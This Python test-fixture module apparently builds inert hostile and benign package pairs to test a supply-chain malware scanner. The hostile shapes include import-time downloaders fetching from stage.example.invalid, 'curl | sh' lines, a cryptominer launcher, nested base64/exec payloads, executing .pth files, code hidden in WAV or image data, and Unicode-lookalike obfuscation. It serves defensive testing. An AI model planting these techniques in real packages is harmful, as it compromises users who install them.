"""Techniques of known attacks that stand in code: an inert shape of each, and the same package without it."""

from __future__ import annotations

import base64
import io
import wave
import zlib
from typing import Final

from tests.hostile.probe_kit import B64, CODE, compiled, sdist, setup, wheel, zipped
from tests.hostile.technique import Technique

__all__ = ["CODE_TECHNIQUES"]

_STAGE: Final = "https://stage.example.invalid/marker"
_INIT: Final = "inert_probe/__init__.py"
_DROP: Final = (
    f"import os, subprocess, urllib.request\n\npath = '/tmp/marker.pyz'\n"
    f"urllib.request.urlretrieve('{_STAGE}', path)\nsubprocess.Popen(['python3', path])\n"
)
_FETCH: Final = "import urllib.request\n\n\ndef fetch(url):\n    return urllib.request.urlopen(url).read()\n"
_EXEC: Final = f"import base64\nexec(base64.b64decode('{B64}'))\n"
_IMPORTS: Final = {_INIT: "from . import core\n"}
_WORDS: Final = "def words(text):\n    return text.split()\n"


def _sound(frames: bytes) -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(1)
        sound.setframerate(8_000)
        sound.writeframes(frames)
    return out.getvalue()


def _nested(times: int) -> str:
    data = CODE.encode()
    for _ in range(times):
        data = base64.b64encode(zlib.compress(data))
    return data.decode()


_UNWRAPS: Final = (
    f"import base64, zlib\nc = b'{_nested(12)}'\nfor _ in range(12):\n"
    "    c = zlib.decompress(base64.b64decode(c))\nexec(c)\n"
)
_TABLE: Final = f"import base64, zlib\nTABLE = zlib.decompress(base64.b64decode('{_nested(1)}'))\n"
_LISTEN: Final = (
    "import base64, wave\n\nwith wave.open(__file__.replace('sound.py', 'ring.wav')) as ring:\n"
    "    {}(base64.b64decode(ring.readframes(ring.getnframes())){})\n"
)
_SOUND: Final[dict[str, bytes | str]] = {_INIT: "from . import sound\n"}
_RING: Final[dict[str, bytes | str]] = {
    **_SOUND,
    "inert_probe/ring.wav": _sound(base64.b64encode(CODE.encode()) + b"\x80" * 400),
}
_TONE: Final[dict[str, bytes | str]] = {**_SOUND, "inert_probe/ring.wav": _sound(b"\x80" * 900)}
_BUN: Final = (
    "import threading, subprocess, sys, os\n\n\ndef _start():\n    here = os.path.dirname(__file__)\n"
    "    subprocess.Popen([sys.executable, os.path.join(here, '_runtime', 'start.py')])\n\n\n"
    "threading.Thread(target=_start, daemon=True).start()\n"
)
_BUN_START: Final = (
    "import os, subprocess, urllib.request\n\nbun = '/tmp/bun'\n"
    f"urllib.request.urlretrieve('{_STAGE}/bun', bun)\nos.chmod(bun, 0o755)\n"
    "subprocess.run([bun, os.path.join(os.path.dirname(__file__), 'router.js')])\n"
)
_PACKED_JS: Final = "const _0x1a2b=['" + "','".join(f"{n:04x}" for n in range(4_000)) + "'];\n"
_MINER: Final = (
    "import os, subprocess, urllib.request\n\n\ndef check(model):\n"
    f"    urllib.request.urlretrieve('{_STAGE}/x', '/tmp/x')\n    os.chmod('/tmp/x', 0o755)\n"
    "    subprocess.Popen(['/tmp/x', '-o', 'stratum+tcp://pool.example.invalid:3333'])\n    return model\n"
)
_NUMBERS: Final = {_INIT: "from .core import check\n", "inert_probe/core.py": "def check(model):\n    return model\n"}
_PYARMOR: Final = (
    "from pytransform import pyarmor_runtime\npyarmor_runtime()\n"
    "__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52\\x4d\\x4f\\x52\\x00\\x00\\x03\\x0b\\x00"
    + "\\x61" * 200
    + "', 2)\n"
)
_PYE: Final = "---BEGIN PYE FILE---\n" + f"{B64}\n" * 20 + "---END PYE FILE---\n"
_FAR: Final = 'VERSION = "1.0"' + " " * 300 + f";import base64;exec(base64.b64decode('{B64}'))\n"
_LOADER: Final = (
    "import importlib.util\n\npath = __file__.replace('__init__.py', 'core.pyc')\n"
    "spec = importlib.util.spec_from_file_location('x', path)\n"
    "module = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(module)\n"
)
_ADD: Final = "def add(a, b):\n    return a + b\n"
_ADDED: Final = compiled(_ADD)
_QUIET: Final = "import subprocess\nsubprocess.Popen(['tools.exe'], creationflags=0x08000000)"
_UNPACKS: Final = (
    "import zipfile, os\nzipfile.ZipFile(os.path.join(os.path.dirname(__file__), 'a.zip')).extractall('/tmp/a')\n"
    "os.system('sh /tmp/a/run.sh')\n"
)
_RUN: Final = zipped({"run.sh": f"#!/bin/sh\ncurl -s {_STAGE} | sh\n"})
_PIP: Final = "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', {}])\n"

CODE_TECHNIQUES: Final = (
    Technique(4, "code at import that drops and starts", wheel({_INIT: _DROP}), wheel({_INIT: _FETCH})),
    Technique(
        5,
        "payload in an ordinary module, reached by imports",
        wheel({**_IMPORTS, "inert_probe/core.py": "from . import words\n", "inert_probe/words.py": _EXEC}),
        wheel({**_IMPORTS, "inert_probe/core.py": "from . import words\n", "inert_probe/words.py": _WORDS}),
    ),
    Technique(
        6,
        "path file that executes",
        wheel({"inert_probe_init.pth": f"import os, subprocess; subprocess.Popen(['python3', '-c', {_EXEC!r}])\n"}),
        wheel({"inert_probe_init.pth": "inert_probe/vendor\n"}),
    ),
    Technique(
        7,
        "sound that is read as code, new in a popular project",
        wheel({**_RING, "inert_probe/sound.py": _LISTEN.format("exec", "")}),
        wheel({**_TONE, "inert_probe/sound.py": _LISTEN.format("print", "[:4]")}),
        previous=(wheel({**_SOUND, "inert_probe/sound.py": "RATE = 8000\n"}),),
    ),
    Technique(
        8,
        "hidden folder, foreign runtime, packed script",
        wheel(
            {
                _INIT: _BUN,
                "inert_probe/_runtime/start.py": _BUN_START,
                "inert_probe/_runtime/router.js": _PACKED_JS,
            }
        ),
        wheel({_INIT: _WORDS, "inert_probe/_runtime/router.js": "function route(path) {\n  return path;\n}\n"}),
        previous=(wheel({_INIT: _WORDS}),),
    ),
    Technique(
        10,
        "build that was poisoned: a downloader in a module of an established project",
        wheel({_INIT: "from .core import check\n", "inert_probe/core.py": _MINER}),
        wheel(_NUMBERS | {"inert_probe/core.py": "def check(model):\n    return bool(model)\n"}),
        previous=(wheel(_NUMBERS),),
    ),
    Technique(
        15,
        "one's own project turns: fifty layers in a helper",
        wheel(
            {
                **_IMPORTS,
                "inert_probe/core.py": _UNWRAPS,
            }
        ),
        wheel(
            {
                **_IMPORTS,
                "inert_probe/core.py": _TABLE,
            }
        ),
        previous=(wheel({**_IMPORTS, "inert_probe/core.py": _WORDS}),),
    ),
    Technique(
        26, "PyArmor", wheel({_INIT: _PYARMOR}), wheel({_INIT: "# Not protected by PyArmor.\nARMOR = 'leather'\n"})
    ),
    Technique(
        26,
        "SourceDefender",
        wheel({_INIT: "import sourcedefender\nfrom . import core\n", "inert_probe/core.pye": _PYE}),
        wheel({_INIT: "KEY = '---BEGIN PUBLIC KEY---'\n"}),
    ),
    Technique(
        27,
        "compatibility letters",
        wheel({_INIT: "import os\nos.\U0001d4fc\U0001d502\U0001d4fctem('echo pratique-inert-marker')\n"}),
        wheel({_INIT: "gr\u00f6\u00dfe = 1\n\u0431\u0443\u043a\u0432\u0430 = '\u0431'\n"}),
    ),
    Technique(28, "code out of sight", wheel({_INIT: _FAR}), wheel({_INIT: 'VERSION = "1.0"  # the version\n'})),
    Technique(
        29,
        "direction of text",
        wheel({_INIT: "admin = False\nif admin:  # \u202e \u2066begin admins only\u2069 \u2066\n    pass\n"}),
        wheel({_INIT: "MARKS = {'\u202e': 'right to left override'}\n"}),
    ),
    Technique(
        30,
        "hidden in a picture",
        wheel({_INIT: "from judyb import lsb\nexec(lsb.reveal('logo.png'))\n"}),
        wheel({_INIT: "from PIL import Image\n\n\ndef logo(path):\n    return Image.open(path).size\n"}),
    ),
    Technique(
        31,
        "bytecode without source, loaded by hand",
        wheel({_INIT: _LOADER, "inert_probe/core.pyc": compiled(_EXEC)}),
        wheel(
            {**_IMPORTS, "inert_probe/core.py": _ADD, "inert_probe/__pycache__/core.cpython-311.pyc": compiled(_ADD)}
        ),
    ),
    Technique(
        38,
        "second stage by pip at import",
        wheel({_INIT: _PIP.format("'--index-url', 'http://stage.example.invalid/simple', 'inert-stage'")}),
        wheel({_INIT: "def hint():\n    return 'pip install inert-probe[extra]'\n"}),
    ),
    Technique(
        37,
        "requirement of an address",
        sdist({}, pyproject=f"[build-system]\nrequires = ['setuptools @ {_STAGE}']\n"),
        sdist({}, pyproject="[build-system]\nrequires = ['setuptools']\n"),
        content=False,
    ),
    Technique(
        36,
        "build back end in the tree",
        sdist(
            {"_build/inner.py": f"import os\nos.system('curl -s {_STAGE} | sh')\n"},
            pyproject="[build-system]\nrequires = []\nbuild-backend = 'inner'\nbackend-path = ['_build']\n",
        ),
        sdist(
            {"_build/inner.py": "from setuptools.build_meta import *\n"},
            pyproject="[build-system]\nrequires = []\nbuild-backend = 'inner'\nbackend-path = ['_build']\n",
        ),
    ),
    Technique(
        33,
        "program that is shipped and started",
        setup(
            "import subprocess\nsubprocess.Popen(['tools.exe'], creationflags=0x08000000)",
            tools_dot_exe=b"MZ" + bytes(200),
        ),
        setup("TOOLS = ('words',)"),
    ),
    Technique(
        33,
        "script in an archive",
        wheel(
            {
                _INIT: _UNPACKS,
                "inert_probe/a.zip": zipped({"run.sh": f"#!/bin/sh\ncurl -s {_STAGE} | sh\n"}),
            }
        ),
        wheel({"inert_probe/a.zip": zipped({"words.txt": "one two"})}),
    ),
)
